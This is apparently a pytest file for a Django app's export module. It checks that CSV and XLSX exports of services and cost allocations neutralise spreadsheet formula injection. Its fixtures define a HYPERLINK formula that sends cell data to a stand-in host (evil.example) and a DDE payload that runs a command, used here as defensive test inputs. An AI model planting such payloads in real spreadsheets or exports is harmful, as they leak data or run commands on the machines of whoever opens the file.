"""No export carries a live formula: a name like =HYPERLINK(…) comes out as text in every CSV and XLSX,
numbers stay numbers, and our own import takes the neutralising apostrophe off again."""

import io
import zipfile

import openpyxl
import pytest
from django.core.management import call_command

from core import exports
from costs import actions as costs
from costs.models import CostLine, FundingModel
from decisions.tests import factories as gov
from organisations.tests import factories as orgs
from services.imports import import_services
from services.models import Service
from services.tests import factories

pytestmark = pytest.mark.django_db
LINK = '=HYPERLINK("http://evil.example/?d="&A2,"x")'
CMD = "=cmd|' /C calc'!A0"


def _xlsx_has_no_formula(data):
    with zipfile.ZipFile(io.BytesIO(data)) as book:
        sheets = [n for n in book.namelist() if n.startswith("xl/worksheets/")]
        return all(b"<f>" not in book.read(n) and b"<f " not in book.read(n) for n in sheets)


@pytest.mark.parametrize("text", [LINK, CMD, "+1", "-1+2", "@SUM(A1)", "\tx", "\rx"])
def test_a_text_that_reads_as_a_formula_is_neutralised_in_csv(text):
    import csv

    out = io.StringIO()
    exports.write_csv(out, ["a", "n"], [[text, -5]])
    row = list(csv.reader(io.StringIO(out.getvalue().lstrip("\ufeff")), delimiter=";"))[1]
    assert row == ["'" + text, "-5"]  # the text shown as text; a negative number stays a number


def test_xlsx_writes_text_as_text_and_numbers_as_numbers():
    out = io.BytesIO()
    exports.write_xlsx(out, "x", ["a", "n"], [[LINK, 12.5]])
    assert _xlsx_has_no_formula(out.getvalue())
    sheet = openpyxl.load_workbook(io.BytesIO(out.getvalue())).active
    assert sheet["A2"].value == LINK and sheet["A2"].data_type == "s" and sheet["B2"].value == 12.5


def test_the_service_exports_web_and_cli_carry_no_formula_and_import_back_unchanged(client, tmp_path):
    hsn = orgs.organisation("HSN", name=CMD)
    factories.service(owner=hsn, name=LINK, external_id="X-1", domain=orgs.domain("vard"))
    client.force_login(orgs.user())
    csv_text = client.get("/tjanster/export.csv").content.decode("utf-8-sig")
    assert "'=HYPERLINK" in csv_text and "'=cmd" in csv_text
    assert _xlsx_has_no_formula(client.get("/tjanster/export.xlsx").content)
    target = tmp_path / "tjanster.xlsx"
    call_command("export_data", "services", "-o", str(target))
    assert _xlsx_has_no_formula(target.read_bytes())
    result = import_services("tjanster.csv", csv_text.encode("utf-8"))
    assert not result.errors and Service.objects.get(external_id="X-1").name == LINK


def test_the_allocation_exports_carry_no_formula(client, tmp_path):
    board = orgs.organisation("EVIL", name=LINK)
    svc = factories.service(owner=board, name=CMD)
    CostLine.objects.create(service=svc, year=2026, cost_type="operations", figure="outcome", amount_ore=300_00)
    FundingModel.objects.create(service=svc, year=2026, method="common", funder=board, decision=gov.decision())
    run = costs.run_allocation(year=2026)
    client.force_login(orgs.user())
    text = client.get(f"/kostnader/korning/{run.pk}/export.csv").content.decode("utf-8-sig")
    assert "'=HYPERLINK" in text and "'=cmd" in text and "300.00" in text
    assert _xlsx_has_no_formula(client.get(f"/kostnader/korning/{run.pk}/export.xlsx").content)
    target = tmp_path / "fordelning.csv"
    call_command("export_data", "allocation", "--year", "2026", "--format", "csv", "-o", str(target))
    assert "'=cmd" in target.read_text(encoding="utf-8-sig")
